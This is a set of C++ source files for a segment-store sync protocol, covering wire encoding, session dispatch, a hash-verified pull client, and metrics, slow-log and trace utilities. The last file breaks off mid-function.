bool SyncClient::do_pull(SyncStats& stats) {
  SizeMap sizes;
  for (const auto& m : store_.segments()) sizes.emplace(m.hash, m.bytes);
  const store::SegmentSet local(store_.segment_hashes());
  const auto remote_root = fetch_node("", stats);
  if (!remote_root) return false;
  std::vector<std::string> to_fetch;
  if (local.summarize("").hash == remote_root->hash) {
    stats.bytes_saved += sum_sizes(local.hashes(), sizes);
  } else if (!pull_walk(local, sizes, "", *remote_root, to_fetch, stats)) {
    return false;
  }
  std::sort(to_fetch.begin(), to_fetch.end());
  to_fetch.erase(std::unique(to_fetch.begin(), to_fetch.end()),
                 to_fetch.end());
  for (const auto& hash : to_fetch) {
    util::ByteWriter w;
    w.lp16(hash);
    const auto bytes = rpc(SyncOp::kGet, util::BytesView{w.bytes()}, stats);
    if (!bytes) return false;
    // Trust nothing off the wire: the segment must hash to exactly what was
    // asked for before it may touch the manifest.
    if (store::content_hash(util::BytesView{*bytes}) != hash) {
      ++stats.verify_failures;
      util::log_line(util::LogLevel::kWarn, "sync",
                     "pull: segment " + hash.substr(0, 16) +
                         "… failed content verification; aborting");
      close();
      return false;
    }
    try {
      (void)store_.import_segment(util::BytesView{*bytes});
    } catch (const std::exception& e) {
      util::log_line(util::LogLevel::kWarn, "sync",
                     std::string("pull: import rejected: ") + e.what());
      close();
      return false;
    }
    ++stats.segments_received;
  }
  return true;
}

std::optional<SyncStats> SyncClient::push() {
  SyncStats stats;
  const bool ok = do_push(stats);
  record(stats);
  if (!ok) return std::nullopt;
  return stats;
}

std::optional<SyncStats> SyncClient::pull() {
  SyncStats stats;
  const bool ok = do_pull(stats);
  record(stats);
  if (!ok) return std::nullopt;
  return stats;
}

void SyncClient::record(const SyncStats& stats) {
  if (!registry_) return;
  // inc(0) still registers the counter, so a metrics snapshot always shows
  // the full sync.* family after any attempt.
  registry_->counter("sync.rounds").inc(stats.rounds);
  registry_->counter("sync.segments_sent").inc(stats.segments_sent);
  registry_->counter("sync.segments_received").inc(stats.segments_received);
  registry_->counter("sync.bytes_on_wire").inc(stats.bytes_on_wire);
  registry_->counter("sync.bytes_saved").inc(stats.bytes_saved);
  registry_->counter("sync.verify_failures").inc(stats.verify_failures);
}

}  // namespace malnet::sync
