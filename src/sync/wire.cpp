#include "sync/wire.hpp"

namespace malnet::sync {

namespace {

util::Bytes frame(const util::ByteWriter& body) {
  util::ByteWriter out;
  out.u32(static_cast<std::uint32_t>(body.size()));
  out.raw(body.bytes());
  return out.take();
}

bool valid_op(std::uint8_t op) {
  return op <= static_cast<std::uint8_t>(SyncOp::kPut);
}

bool valid_set_hash(const std::string& h) {
  return h.size() == store::kHashHexLen && store::is_hex_lower(h);
}

}  // namespace

util::Bytes encode_sync_request(const SyncRequest& req) {
  util::ByteWriter body;
  const bool traced = req.trace_id != 0 || req.span_id != 0;
  body.u32(traced ? kSyncRequestMagicV2 : kSyncRequestMagic);
  body.u64(req.id);
  body.u8(static_cast<std::uint8_t>(req.op));
  if (traced) {
    body.u64(req.trace_id);
    body.u64(req.span_id);
  }
  body.raw(req.payload);
  return frame(body);
}

util::Bytes encode_sync_response(const SyncResponse& resp) {
  util::ByteWriter body;
  body.u32(kSyncResponseMagic);
  body.u64(resp.id);
  body.u8(static_cast<std::uint8_t>(resp.status));
  body.u8(static_cast<std::uint8_t>(resp.op));
  body.raw(resp.payload);
  return frame(body);
}

std::optional<SyncRequest> decode_sync_request(util::BytesView body) {
  if (body.size() < kSyncRequestHeaderSize || body.size() > kMaxSyncFrameBody) {
    return std::nullopt;
  }
  util::ByteReader r(body);
  const auto magic = r.u32();
  if (magic != kSyncRequestMagic && magic != kSyncRequestMagicV2) {
    return std::nullopt;
  }
  SyncRequest req;
  req.id = r.u64();
  const auto op = r.u8();
  if (!valid_op(op)) return std::nullopt;
  req.op = static_cast<SyncOp>(op);
  if (magic == kSyncRequestMagicV2) {
    if (body.size() < kSyncRequestHeaderSizeV2) return std::nullopt;
    req.trace_id = r.u64();
    req.span_id = r.u64();
  }
  req.payload = r.raw(r.remaining());
  return req;
}

std::optional<SyncResponse> decode_sync_response(util::BytesView body) {
  if (body.size() < kSyncResponseHeaderSize || body.size() > kMaxSyncFrameBody) {
    return std::nullopt;
  }
  util::ByteReader r(body);
  if (r.u32() != kSyncResponseMagic) return std::nullopt;
  SyncResponse resp;
  resp.id = r.u64();
  const auto status = r.u8();
  if (status > static_cast<std::uint8_t>(SyncStatus::kError)) {
    return std::nullopt;
  }
  resp.status = static_cast<SyncStatus>(status);
  const auto op = r.u8();
  if (!valid_op(op)) return std::nullopt;
  resp.op = static_cast<SyncOp>(op);
  resp.payload = r.raw(r.remaining());
  return resp;
}

util::Bytes encode_node_summary(const store::TreeNodeSummary& node) {
  util::ByteWriter w;
  w.u64(node.count);
  w.lp16(node.hash);
  w.u8(static_cast<std::uint8_t>(node.children.size()));
  for (const auto& c : node.children) {
    w.u8(c.digit);
    w.u64(c.count);
    w.lp16(c.hash);
  }
  return w.take();
}

std::optional<store::TreeNodeSummary> decode_node_summary(
    util::BytesView payload) {
  try {
    util::ByteReader r(payload);
    store::TreeNodeSummary node;
    node.count = r.u64();
    node.hash = util::to_string(util::BytesView{r.lp16()});
    if (!valid_set_hash(node.hash)) return std::nullopt;
    const auto n = r.u8();
    if (n > 16) return std::nullopt;
    std::uint64_t child_total = 0;
    int last_digit = -1;
    for (std::uint8_t i = 0; i < n; ++i) {
      store::TreeChildSummary child;
      child.digit = r.u8();
      if (child.digit > 15 || static_cast<int>(child.digit) <= last_digit) {
        return std::nullopt;
      }
      last_digit = child.digit;
      child.count = r.u64();
      child.hash = util::to_string(util::BytesView{r.lp16()});
      if (child.count == 0 || !valid_set_hash(child.hash)) return std::nullopt;
      child_total += child.count;
      node.children.push_back(std::move(child));
    }
    if (!r.done()) return std::nullopt;
    // Children partition the node's members, so their counts must add up
    // (a childless summary is a leaf or an empty node; nothing to check).
    if (n > 0 && child_total != node.count) return std::nullopt;
    return node;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

util::Bytes encode_hash_list(const std::vector<std::string>& hashes) {
  util::ByteWriter w;
  w.u32(static_cast<std::uint32_t>(hashes.size()));
  for (const auto& h : hashes) w.lp16(h);
  return w.take();
}

std::optional<std::vector<std::string>> decode_hash_list(
    util::BytesView payload) {
  try {
    util::ByteReader r(payload);
    const auto n = r.u32();
    // Each entry costs at least 2 + 64 bytes on the wire; an n that cannot
    // fit in the remaining payload is malformed, not a huge allocation.
    if (static_cast<std::uint64_t>(n) * (2 + store::kHashHexLen) >
        r.remaining()) {
      return std::nullopt;
    }
    std::vector<std::string> hashes;
    hashes.reserve(n);
    for (std::uint32_t i = 0; i < n; ++i) {
      auto h = util::to_string(util::BytesView{r.lp16()});
      if (!valid_set_hash(h)) return std::nullopt;
      if (!hashes.empty() && !(hashes.back() < h)) return std::nullopt;
      hashes.push_back(std::move(h));
    }
    if (!r.done()) return std::nullopt;
    return hashes;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

}  // namespace malnet::sync
