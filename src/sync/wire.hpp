// malnet::sync wire protocol (DESIGN.md §14).
//
// The MSY1 frame family rides the same u32-length-prefixed transport as the
// serve layer's MQR1 queries — a server started with sync enabled speaks
// both on one port, routing by body magic. Five operations implement
// hash-tree set reconciliation plus segment transfer:
//
//   frame    := u32 body_len (big-endian) || body       body_len <= 64 MiB
//   request  := u32 magic "MSY1" || u64 id || u8 op || op payload
//   traced   := u32 magic "MSY2" || u64 id || u8 op || u64 trace_id
//               || u64 span_id || op payload
//   response := u32 magic "MSP1" || u64 id || u8 status || u8 op || payload
//
// MSY2 mirrors the serve layer's MQR2 tracing extension: emitted only when
// a trace id is set (untraced syncs stay byte-identical MSY1), accepted
// alongside MSY1 by the session handler.
//
//   op 0 HELLO  payload: empty            -> node summary of the root
//   op 1 TREE   payload: lp16 hex prefix  -> node summary at that prefix
//   op 2 LIST   payload: lp16 hex prefix  -> sorted member hashes under it
//   op 3 GET    payload: lp16 full hash   -> raw segment bytes
//   op 4 PUT    payload: segment bytes    -> u8 imported (0 = already had)
//
// status 0 = ok; status 1 = error (payload is text; the connection stays
// usable — a rejected PUT must not kill the rest of the sync). As with the
// query protocol, nothing malformed ever escapes the codec as an exception:
// decoders return nullopt and the caller drops the connection.
//
// The node summary / hash list payload encodings are shared by both sides:
//   summary := u64 count || lp16 set_hash ||
//              u8 n_children || n * (u8 digit || u64 count || lp16 set_hash)
//   list    := u32 n || n * lp16 hash     (sorted, unique, 64-hex each)
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "store/merkle.hpp"
#include "util/bytes.hpp"

namespace malnet::sync {

inline constexpr std::uint32_t kSyncRequestMagic = 0x4D535931;    // "MSY1"
inline constexpr std::uint32_t kSyncRequestMagicV2 = 0x4D535932;  // "MSY2"
inline constexpr std::uint32_t kSyncResponseMagic = 0x4D535031;   // "MSP1"
/// Upper bound on a sync frame body — must fit a whole segment (PUT/GET).
inline constexpr std::size_t kMaxSyncFrameBody = 64u << 20;
/// Fixed part of a request body (magic + id + op).
inline constexpr std::size_t kSyncRequestHeaderSize = 4 + 8 + 1;
/// Fixed part of a traced (MSY2) request body (+ trace id + span id).
inline constexpr std::size_t kSyncRequestHeaderSizeV2 = 4 + 8 + 1 + 8 + 8;
/// Fixed part of a response body (magic + id + status + op).
inline constexpr std::size_t kSyncResponseHeaderSize = 4 + 8 + 1 + 1;

enum class SyncOp : std::uint8_t {
  kHello = 0,
  kTree = 1,
  kList = 2,
  kGet = 3,
  kPut = 4,
};

enum class SyncStatus : std::uint8_t { kOk = 0, kError = 1 };

struct SyncRequest {
  std::uint64_t id = 0;
  SyncOp op = SyncOp::kHello;
  util::Bytes payload;  // op-specific, encoded per the schemes above
  /// Cross-node tracing (DESIGN.md §15). Both zero = untraced (V1 frame).
  std::uint64_t trace_id = 0;
  std::uint64_t span_id = 0;

  friend bool operator==(const SyncRequest&, const SyncRequest&) = default;
};

struct SyncResponse {
  std::uint64_t id = 0;
  SyncStatus status = SyncStatus::kOk;
  SyncOp op = SyncOp::kHello;
  util::Bytes payload;

  friend bool operator==(const SyncResponse&, const SyncResponse&) = default;
};

/// Full frame (length prefix included), ready to write to a socket.
[[nodiscard]] util::Bytes encode_sync_request(const SyncRequest& req);
[[nodiscard]] util::Bytes encode_sync_response(const SyncResponse& resp);

/// Decode a frame *body* (length prefix already stripped by FrameReader).
/// Nullopt on bad magic, unknown op/status, or a short body; never throws.
[[nodiscard]] std::optional<SyncRequest> decode_sync_request(
    util::BytesView body);
[[nodiscard]] std::optional<SyncResponse> decode_sync_response(
    util::BytesView body);

/// Node-summary payload codec. Decode validates: 64-hex set hashes, child
/// digits strictly increasing and < 16, child counts summing to the node
/// count, and no trailing bytes. Nullopt on any violation.
[[nodiscard]] util::Bytes encode_node_summary(const store::TreeNodeSummary& node);
[[nodiscard]] std::optional<store::TreeNodeSummary> decode_node_summary(
    util::BytesView payload);

/// Hash-list payload codec. Decode validates: 64-hex lowercase entries in
/// strictly increasing order, no trailing bytes. Nullopt on any violation.
[[nodiscard]] util::Bytes encode_hash_list(const std::vector<std::string>& hashes);
[[nodiscard]] std::optional<std::vector<std::string>> decode_hash_list(
    util::BytesView payload);

}  // namespace malnet::sync
