#include "sync/session.hpp"

#include <chrono>
#include <exception>
#include <string>

#include "store/segment.hpp"
#include "util/log.hpp"

namespace malnet::sync {

namespace {

const char* op_name(SyncOp op) {
  switch (op) {
    case SyncOp::kHello: return "hello";
    case SyncOp::kTree: return "tree";
    case SyncOp::kList: return "list";
    case SyncOp::kGet: return "get";
    case SyncOp::kPut: return "put";
  }
  return "?";
}

util::Bytes ok(std::uint64_t id, SyncOp op, util::Bytes payload) {
  return encode_sync_response({id, SyncStatus::kOk, op, std::move(payload)});
}

util::Bytes error(std::uint64_t id, SyncOp op, std::string_view text) {
  return encode_sync_response(
      {id, SyncStatus::kError, op, util::to_bytes(text)});
}

/// The request payload for TREE/LIST: one lp16 hex prefix, nothing else.
std::optional<std::string> decode_prefix(util::BytesView payload) {
  try {
    util::ByteReader r(payload);
    auto prefix = util::to_string(util::BytesView{r.lp16()});
    if (!r.done()) return std::nullopt;
    if (prefix.size() > store::kHashHexLen || !store::is_hex_lower(prefix)) {
      return std::nullopt;
    }
    return prefix;
  } catch (const util::TruncatedInput&) {
    return std::nullopt;
  }
}

std::optional<std::string> decode_hash(util::BytesView payload) {
  auto prefix = decode_prefix(payload);
  if (!prefix || prefix->size() != store::kHashHexLen) return std::nullopt;
  return prefix;
}

}  // namespace

SessionHandler::SessionHandler(store::Store& store, obs::Registry& registry)
    : store_(store),
      requests_(&registry.counter("sync.requests")),
      segments_served_(&registry.counter("sync.segments_served")),
      segments_imported_(&registry.counter("sync.segments_imported")),
      puts_rejected_(&registry.counter("sync.puts_rejected")) {}

void SessionHandler::configure_slow_log(std::size_t capacity,
                                        std::int64_t threshold_us) {
  slow_.configure(capacity, threshold_us);
}

std::optional<util::Bytes> SessionHandler::handle(util::BytesView body,
                                                  std::string_view peer) {
  const auto req = decode_sync_request(body);
  if (!req) return std::nullopt;
  requests_->inc();
  const std::int64_t wall0 = obs::wall_now_us();
  const auto t0 = std::chrono::steady_clock::now();
  auto resp = dispatch(*req);
  const std::int64_t us =
      std::chrono::duration_cast<std::chrono::microseconds>(
          std::chrono::steady_clock::now() - t0)
          .count();
  const std::uint64_t bytes = resp ? resp->size() : 0;
  slow_.record({std::string("sync:") + op_name(req->op), std::string(peer), us,
                bytes, req->trace_id, req->span_id, wall0});
  if (spans_ != nullptr && req->trace_id != 0 && spans_->enabled()) {
    spans_->span(std::string("serve:sync:") + op_name(req->op), "sync", wall0,
                 us, req->trace_id, req->span_id,
                 "\"bytes\":" + std::to_string(bytes) + ",\"peer\":\"" +
                     obs::json_escape(std::string(peer)) + '"');
  }
  return resp;
}

std::optional<util::Bytes> SessionHandler::dispatch(const SyncRequest& in) {
  const auto* req = &in;
  switch (req->op) {
    case SyncOp::kHello: {
      if (!req->payload.empty()) {
        return error(req->id, req->op, "err hello takes no payload");
      }
      const store::SegmentSet set(store_.segment_hashes());
      return ok(req->id, req->op, encode_node_summary(set.summarize("")));
    }
    case SyncOp::kTree: {
      const auto prefix = decode_prefix(util::BytesView{req->payload});
      if (!prefix) return error(req->id, req->op, "err bad tree prefix");
      const store::SegmentSet set(store_.segment_hashes());
      return ok(req->id, req->op, encode_node_summary(set.summarize(*prefix)));
    }
    case SyncOp::kList: {
      const auto prefix = decode_prefix(util::BytesView{req->payload});
      if (!prefix) return error(req->id, req->op, "err bad list prefix");
      const store::SegmentSet set(store_.segment_hashes());
      auto members = set.under(*prefix);
      auto payload = encode_hash_list(members);
      if (payload.size() > kMaxSyncFrameBody - kSyncResponseHeaderSize) {
        // The client's move is tree refinement, not a bigger list.
        return error(req->id, req->op, "err list too large; refine");
      }
      return ok(req->id, req->op, std::move(payload));
    }
    case SyncOp::kGet: {
      const auto hash = decode_hash(util::BytesView{req->payload});
      if (!hash) return error(req->id, req->op, "err bad segment hash");
      try {
        auto bytes = store_.read_segment_bytes(*hash);
        if (!bytes) return error(req->id, req->op, "err unknown segment");
        segments_served_->inc();
        return ok(req->id, req->op, std::move(*bytes));
      } catch (const std::exception& e) {
        return error(req->id, req->op, std::string("err ") + e.what());
      }
    }
    case SyncOp::kPut: {
      try {
        const auto result = store_.import_segment(util::BytesView{req->payload});
        if (result.imported) segments_imported_->inc();
        util::ByteWriter w;
        w.u8(result.imported ? 1 : 0);
        return ok(req->id, req->op, w.take());
      } catch (const std::exception& e) {
        puts_rejected_->inc();
        util::log_line(util::LogLevel::kWarn, "sync",
                       std::string("rejected put: ") + e.what());
        return error(req->id, req->op, std::string("err ") + e.what());
      }
    }
  }
  return std::nullopt;  // unreachable: decode_sync_request validates op
}

}  // namespace malnet::sync
