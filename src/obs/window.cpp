#include "obs/window.hpp"

#include <utility>

namespace malnet::obs {

namespace {

/// newest - oldest, key-wise. Counters and histogram buckets clamp at 0 on
/// regression; gauges report the newest level (a delta of levels is
/// rarely what a rate display wants).
MetricsSnapshot diff(const MetricsSnapshot& newest,
                     const MetricsSnapshot& oldest) {
  MetricsSnapshot out;
  for (const auto& [name, v] : newest.counters) {
    const auto it = oldest.counters.find(name);
    const std::uint64_t base = it == oldest.counters.end() ? 0 : it->second;
    out.counters[name] = v >= base ? v - base : 0;
  }
  out.gauges = newest.gauges;
  for (const auto& [name, h] : newest.histograms) {
    HistogramSnapshot d = h;
    const auto it = oldest.histograms.find(name);
    if (it != oldest.histograms.end() && it->second.bounds == h.bounds) {
      const HistogramSnapshot& base = it->second;
      for (std::size_t i = 0; i < d.counts.size() && i < base.counts.size();
           ++i) {
        d.counts[i] = d.counts[i] >= base.counts[i] ? d.counts[i] - base.counts[i]
                                                    : 0;
      }
      d.sum -= base.sum;
      d.count = d.count >= base.count ? d.count - base.count : 0;
    }
    out.histograms.emplace(name, std::move(d));
  }
  return out;
}

}  // namespace

SnapshotRing::SnapshotRing(std::size_t capacity)
    : capacity_(capacity == 0 ? 1 : capacity) {}

void SnapshotRing::push(std::int64_t wall_us, MetricsSnapshot snap) {
  std::lock_guard<std::mutex> lock(mu_);
  if (!samples_.empty() && wall_us < samples_.back().first) return;
  samples_.emplace_back(wall_us, std::move(snap));
  while (samples_.size() > capacity_) samples_.pop_front();
}

std::optional<SnapshotRing::Window> SnapshotRing::window(
    std::int64_t span_us) const {
  std::lock_guard<std::mutex> lock(mu_);
  if (samples_.size() < 2) return std::nullopt;
  const auto& [newest_t, newest] = samples_.back();
  // Oldest sample still within the span; the ring is time-ordered, so the
  // first qualifying sample from the front is it.
  const std::pair<std::int64_t, MetricsSnapshot>* base = nullptr;
  for (const auto& s : samples_) {
    if (newest_t - s.first <= span_us) {
      base = &s;
      break;
    }
  }
  if (base == nullptr || base->first == newest_t) {
    // Everything in-span shares the newest timestamp: fall back to the
    // previous sample so short spans still report something meaningful.
    base = &samples_[samples_.size() - 2];
    if (base->first == newest_t) return std::nullopt;
  }
  Window w;
  w.seconds = static_cast<double>(newest_t - base->first) / 1e6;
  w.delta = diff(newest, base->second);
  return w;
}

std::size_t SnapshotRing::size() const {
  std::lock_guard<std::mutex> lock(mu_);
  return samples_.size();
}

}  // namespace malnet::obs
