#include "obs/slowlog.hpp"

#include <algorithm>
#include <sstream>
#include <utility>

namespace malnet::obs {

namespace {

/// Min-heap order: fastest entry on top; among equal latencies the oldest
/// is evicted first.
bool heap_after(const std::pair<std::uint64_t, SlowEntry>& a,
                const std::pair<std::uint64_t, SlowEntry>& b) {
  if (a.second.latency_us != b.second.latency_us) {
    return a.second.latency_us > b.second.latency_us;
  }
  return a.first > b.first;
}

std::string hex64(std::uint64_t v) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out = "0x";
  for (int i = 15; i >= 0; --i) out += kHex[(v >> (i * 4)) & 0xF];
  return out;
}

}  // namespace

SlowLog::SlowLog(std::size_t capacity, std::int64_t threshold_us)
    : capacity_(capacity == 0 ? 1 : capacity), threshold_us_(threshold_us) {}

void SlowLog::set_threshold(std::int64_t threshold_us) {
  std::lock_guard<std::mutex> lock(mu_);
  threshold_us_ = threshold_us;
}

std::int64_t SlowLog::threshold_us() const {
  std::lock_guard<std::mutex> lock(mu_);
  return threshold_us_;
}

void SlowLog::configure(std::size_t capacity, std::int64_t threshold_us) {
  std::lock_guard<std::mutex> lock(mu_);
  capacity_ = capacity == 0 ? 1 : capacity;
  threshold_us_ = threshold_us;
  while (heap_.size() > capacity_) {
    std::pop_heap(heap_.begin(), heap_.end(), heap_after);
    heap_.pop_back();
  }
}

void SlowLog::record(SlowEntry e) {
  std::lock_guard<std::mutex> lock(mu_);
  if (e.latency_us < threshold_us_) return;
  ++seen_;
  const std::uint64_t seq = next_seq_++;
  if (heap_.size() >= capacity_) {
    const auto& fastest = heap_.front();
    if (e.latency_us <= fastest.second.latency_us) return;
    std::pop_heap(heap_.begin(), heap_.end(), heap_after);
    heap_.pop_back();
  }
  heap_.emplace_back(seq, std::move(e));
  std::push_heap(heap_.begin(), heap_.end(), heap_after);
}

std::vector<SlowEntry> SlowLog::entries() const {
  std::lock_guard<std::mutex> lock(mu_);
  auto sorted = heap_;
  std::sort(sorted.begin(), sorted.end(),
            [](const auto& a, const auto& b) {
              if (a.second.latency_us != b.second.latency_us) {
                return a.second.latency_us > b.second.latency_us;
              }
              return a.first > b.first;  // newest first among ties
            });
  std::vector<SlowEntry> out;
  out.reserve(sorted.size());
  for (auto& [seq, e] : sorted) out.push_back(std::move(e));
  return out;
}

std::uint64_t SlowLog::seen() const {
  std::lock_guard<std::mutex> lock(mu_);
  return seen_;
}

std::string SlowLog::render_text() const {
  const auto rows = entries();
  std::ostringstream os;
  os << "slowlog threshold_us=" << threshold_us() << " seen=" << seen()
     << " retained=" << rows.size() << '\n';
  for (const auto& e : rows) {
    os << e.latency_us << "us op=" << (e.op.empty() ? "?" : e.op)
       << " peer=" << (e.peer.empty() ? "?" : e.peer) << " bytes=" << e.bytes
       << " trace=" << (e.trace_id == 0 ? std::string("-") : hex64(e.trace_id))
       << " wall_us=" << e.wall_us << '\n';
  }
  return os.str();
}

}  // namespace malnet::obs
