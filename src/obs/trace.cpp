#include "obs/trace.hpp"

#include <algorithm>
#include <chrono>
#include <ostream>

#include "util/simtime.hpp"

namespace malnet::obs {

namespace {
std::int64_t wall_now_us() {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::system_clock::now().time_since_epoch())
      .count();
}
}  // namespace

void Tracer::push(TraceEvent ev) {
  if (events_.size() >= cap_) {
    ++dropped_;
    return;
  }
  events_.push_back(std::move(ev));
}

void Tracer::instant(std::string name, std::string category, std::string args_json) {
  if (!enabled_) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'i';
  ev.sim_us = now_sim_us();
  ev.wall_us = wall_now_us();
  ev.args_json = std::move(args_json);
  push(std::move(ev));
}

void Tracer::complete(std::string name, std::string category,
                      std::int64_t start_sim_us, std::string args_json) {
  if (!enabled_) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'X';
  ev.sim_us = start_sim_us;
  ev.dur_us = now_sim_us() - start_sim_us;
  ev.wall_us = wall_now_us();
  ev.args_json = std::move(args_json);
  push(std::move(ev));
}

std::vector<TraceEvent> Tracer::take() {
  std::vector<TraceEvent> out;
  out.swap(events_);
  return out;
}

std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char* hex = "0123456789abcdef";
          out += "\\u00";
          out += hex[(c >> 4) & 0xF];
          out += hex[c & 0xF];
        } else {
          out += c;
        }
    }
  }
  return out;
}

void write_chrome_trace(std::ostream& os, const std::vector<TraceEvent>& events) {
  os << "{\"traceEvents\":[";
  bool first = true;
  for (const auto& ev : events) {
    if (!first) os << ',';
    first = false;
    os << "{\"name\":\"" << json_escape(ev.name) << "\",\"cat\":\""
       << json_escape(ev.category) << "\",\"ph\":\"" << ev.phase
       << "\",\"ts\":" << ev.sim_us;
    if (ev.phase == 'X') os << ",\"dur\":" << ev.dur_us;
    os << ",\"pid\":" << ev.pid << ",\"tid\":\"" << json_escape(ev.category)
       << "\"";
    // Instant events need an explicit scope for Chrome's renderer.
    if (ev.phase == 'i') os << ",\"s\":\"t\"";
    os << ",\"args\":{\"wall_us\":" << ev.wall_us;
    if (!ev.args_json.empty()) os << ',' << ev.args_json;
    os << "}}";
  }
  os << "],\"displayTimeUnit\":\"ms\"}\n";
}

void write_timeline(std::ostream& os, const std::vector<TraceEvent>& events) {
  std::vector<const TraceEvent*> sorted;
  sorted.reserve(events.size());
  for (const auto& ev : events) sorted.push_back(&ev);
  std::stable_sort(sorted.begin(), sorted.end(),
                   [](const TraceEvent* a, const TraceEvent* b) {
                     return a->sim_us != b->sim_us ? a->sim_us < b->sim_us
                                                  : a->pid < b->pid;
                   });
  for (const auto* ev : sorted) {
    os << util::to_string(util::SimTime{ev->sim_us}) << "  shard" << ev->pid
       << "  [" << ev->category << "] " << ev->name;
    if (ev->phase == 'X') {
      os << " (" << util::to_string(util::Duration{ev->dur_us}) << ')';
    }
    if (!ev->args_json.empty()) os << "  {" << ev->args_json << '}';
    os << '\n';
  }
}

}  // namespace malnet::obs
