#include "obs/trace.hpp"

#include <algorithm>
#include <chrono>
#include <ostream>
#include <sstream>

#include "obs/json.hpp"
#include "util/simtime.hpp"

namespace malnet::obs {

std::int64_t wall_now_us() {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::system_clock::now().time_since_epoch())
      .count();
}

std::string hex_id(std::uint64_t v) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out = "0x";
  for (int i = 15; i >= 0; --i) out += kHex[(v >> (i * 4)) & 0xF];
  return out;
}

void Tracer::push(TraceEvent ev) {
  if (events_.size() >= cap_) {
    ++dropped_;
    return;
  }
  events_.push_back(std::move(ev));
}

void Tracer::instant(std::string name, std::string category, std::string args_json) {
  if (!enabled_) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'i';
  ev.sim_us = now_sim_us();
  ev.wall_us = wall_now_us();
  ev.args_json = std::move(args_json);
  push(std::move(ev));
}

void Tracer::complete(std::string name, std::string category,
                      std::int64_t start_sim_us, std::string args_json) {
  if (!enabled_) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'X';
  ev.sim_us = start_sim_us;
  ev.dur_us = now_sim_us() - start_sim_us;
  ev.wall_us = wall_now_us();
  ev.args_json = std::move(args_json);
  push(std::move(ev));
}

void Tracer::wall_complete(std::string name, std::string category,
                           std::int64_t start_wall_us, std::string args_json) {
  if (!enabled_) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'X';
  ev.clock = 'w';
  ev.sim_us = now_sim_us();
  ev.wall_us = start_wall_us;
  ev.dur_us = wall_now_us() - start_wall_us;
  ev.args_json = std::move(args_json);
  push(std::move(ev));
}

std::vector<TraceEvent> Tracer::take() {
  std::vector<TraceEvent> out;
  out.swap(events_);
  return out;
}

std::string json_escape(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 2);
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          static const char* hex = "0123456789abcdef";
          out += "\\u00";
          out += hex[(c >> 4) & 0xF];
          out += hex[c & 0xF];
        } else {
          out += c;
        }
    }
  }
  return out;
}

void write_chrome_trace(std::ostream& os, const std::vector<TraceEvent>& events) {
  os << "{\"traceEvents\":[";
  bool first = true;
  for (const auto& ev : events) {
    if (!first) os << ',';
    first = false;
    // Wall-clock spans live on the wall timeline; sim spans keep sim "ts"
    // and carry wall-clock in args as before.
    const bool wall = ev.clock == 'w';
    os << "{\"name\":\"" << json_escape(ev.name) << "\",\"cat\":\""
       << json_escape(ev.category) << "\",\"ph\":\"" << ev.phase
       << "\",\"ts\":" << (wall ? ev.wall_us : ev.sim_us);
    if (ev.phase == 'X') os << ",\"dur\":" << ev.dur_us;
    os << ",\"pid\":" << ev.pid << ",\"tid\":\"" << json_escape(ev.category)
       << "\"";
    // Instant events need an explicit scope for Chrome's renderer.
    if (ev.phase == 'i') os << ",\"s\":\"t\"";
    os << ",\"args\":{";
    bool first_arg = true;
    if (!wall) {
      os << "\"wall_us\":" << ev.wall_us;
      first_arg = false;
    }
    if (ev.trace_id != 0) {
      if (!first_arg) os << ',';
      first_arg = false;
      os << "\"trace\":\"" << hex_id(ev.trace_id) << "\",\"span\":\""
         << hex_id(ev.span_id) << '"';
    }
    if (!ev.args_json.empty()) {
      if (!first_arg) os << ',';
      os << ev.args_json;
    }
    os << "}}";
  }
  os << "],\"displayTimeUnit\":\"ms\"}\n";
}

std::string chrome_trace_json(const std::vector<TraceEvent>& events) {
  std::ostringstream os;
  write_chrome_trace(os, events);
  return os.str();
}

SpanRecorder::SpanRecorder(std::size_t capacity)
    : capacity_(capacity == 0 ? 1 : capacity) {}

void SpanRecorder::span(std::string name, std::string category,
                        std::int64_t start_wall_us, std::int64_t dur_us,
                        std::uint64_t trace_id, std::uint64_t span_id,
                        std::string args_json) {
  if (!enabled()) return;
  TraceEvent ev;
  ev.name = std::move(name);
  ev.category = std::move(category);
  ev.phase = 'X';
  ev.clock = 'w';
  ev.wall_us = start_wall_us;
  ev.dur_us = dur_us;
  ev.trace_id = trace_id;
  ev.span_id = span_id;
  ev.args_json = std::move(args_json);
  std::lock_guard<std::mutex> lock(mu_);
  if (events_.size() >= capacity_) {
    ++dropped_;
    return;
  }
  events_.push_back(std::move(ev));
}

std::vector<TraceEvent> SpanRecorder::snapshot() const {
  std::lock_guard<std::mutex> lock(mu_);
  return events_;
}

std::uint64_t SpanRecorder::dropped() const {
  std::lock_guard<std::mutex> lock(mu_);
  return dropped_;
}

std::optional<std::string> merge_chrome_traces(
    const std::vector<std::pair<std::string, std::string>>& node_docs) {
  std::ostringstream os;
  os << "{\"traceEvents\":[";
  bool first = true;
  for (std::size_t node = 0; node < node_docs.size(); ++node) {
    const auto& [label, doc] = node_docs[node];
    const auto parsed = json::parse(doc);
    if (!parsed) return std::nullopt;
    const json::Value* events = parsed->find("traceEvents");
    if (events == nullptr || events->type != json::Value::Type::kArray) {
      return std::nullopt;
